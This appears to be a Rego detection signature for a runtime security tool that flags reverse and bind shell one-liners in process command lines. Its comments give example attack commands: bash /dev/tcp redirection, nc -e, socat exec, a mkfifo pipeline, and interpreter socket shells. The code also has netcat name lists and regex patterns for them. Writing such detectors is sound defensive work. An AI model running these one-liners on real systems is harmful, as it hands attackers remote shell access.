# A command line that is a reverse or bind shell one-liner: a shell reading
# from /dev/tcp or /dev/udp, netcat or socat handing a shell to a network
# peer, an interpreter wiring a socket to a shell. These are the first thing
# an intruder types after landing code execution.
#
# This looks at the words the program was started with, so it also fires
# when the connection then fails; the network family's reverse-shell
# signature looks at the sockets themselves and catches the ones written
# differently.
package vigil.signatures.reverse_shell_command

import data.vigil.lib

metadata := {
	"id": "reverse-shell-command",
	"name": "Reverse shell command line",
	"version": "1.0.0",
	"severity": "critical",
	"description": "A program was started with a reverse or bind shell one-liner: bash's /dev/tcp redirection, netcat -e/-c, socat exec:, a named pipe between nc and a shell, or an interpreter connecting a socket to a shell.",
	"tactics": ["TA0002", "TA0011"],
	"techniques": ["T1059.004", "T1059.006", "T1571"],
	"tags": ["reverse-shell", "shell", "c2"],
	"events": ["sched_process_exec"],
}

prog := lib.basename(lib.exec_path)

# bash -i >& /dev/tcp/10.0.0.1/4444 0>&1, exec 5<>/dev/udp/..., sh <&196:
# the socket becomes the shell's input, or its output together with an
# interactive shell. A port check (echo > /dev/tcp/db/5432) only writes.
dev_socket := `/dev/(tcp|udp)/[^/\s]+/[0-9]+`

shapes contains "dev-tcp-redirection" if {
	lib.is_shell(lib.exec_path)
	regex.match(concat("", [`(>&|&>|<>|<&?)\s*`, dev_socket]), lib.cmdline)
}

shapes contains "dev-tcp-redirection" if {
	lib.is_shell(lib.exec_path)
	regex.match(concat("", [`>\s*`, dev_socket]), lib.cmdline)
	regex.match(`0>&[12]|0<&|\s-i(\s|$)`, lib.cmdline)
}

netcat_names := {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"}

# netcat by its file, by the name it was called by (a busybox link), or as
# a busybox applet
netcat if prog in netcat_names

netcat if lib.basename(input.args.argv[0]) in netcat_names

netcat if {
	prog == "busybox"
	input.args.argv[1] in netcat_names
}

# nc -e /bin/sh host port, ncat --exec, netcat -c bash
shapes contains "netcat-exec" if {
	netcat
	some a in input.args.argv
	regex.match(`^(-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)$`, a)
}

# socat exec:/bin/sh tcp:host:port, socat tcp-listen:... system:bash
shapes contains "socat-exec" if {
	prog == "socat"
	regex.match(`(?i)\b(exec|system):`, lib.cmdline)
	regex.match(`(?i)\b(tcp|udp|ssl|openssl|tcp4|tcp6)(-connect|-listen)?:`, lib.cmdline)
}

# mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f
shapes contains "fifo-pipeline" if {
	lib.is_shell(lib.exec_path)
	regex.match(`\bmkfifo\b|\bmknod\b[^|;]*\sp(\s|$)`, lib.cmdline)
	regex.match(`\b(nc|ncat|netcat|telnet|openssl\s+s_client)\b`, lib.cmdline)
	regex.match(`\|\s*(\S*/)?(ba|da|z|k|a)?sh\b`, lib.cmdline)
}

# python -c 'import socket,subprocess,os;s=socket.socket(...);os.dup2(...)',
# perl -e 'use Socket;...exec("/bin/sh -i")', php -r '$s=fsockopen(...);exec(...)'
shapes contains "interpreter-socket-shell" if {
	lib.is_interpreter(lib.exec_path)
	regex.match(`(?i)socket|fsockopen|TCPSocket|net\.connect|IO::Socket`, lib.cmdline)
	regex.match(`(?i)(dup2|/bin/(ba|da|z)?sh\b|\bsh\s+-i|pty\.spawn|subprocess|popen|proc_open|shell_exec|spawn\(|exec\()`, lib.cmdline)
	regex.match(`(?i)(dup2|STDIN|fileno|proc_open|pty\.spawn|\bsh\b.*-i|spawn\(['"](/bin/)?(ba)?sh)`, lib.cmdline)
}

# Every exec of the host comes here: a plain substring test decides for
# nearly all of them before any pattern runs.
candidate if regex.match(`/dev/(tcp|udp)/|mkfifo|mknod|(?i)socket|fsockopen|net\.connect`, lib.cmdline)

candidate if netcat

candidate if prog == "socat"

finding contains {
	"program": lib.exec_path,
	"shapes": sort(shapes),
	"command": lib.cmdline,
	"ancestry": lib.ancestry,
} if {
	candidate
	count(shapes) > 0
}
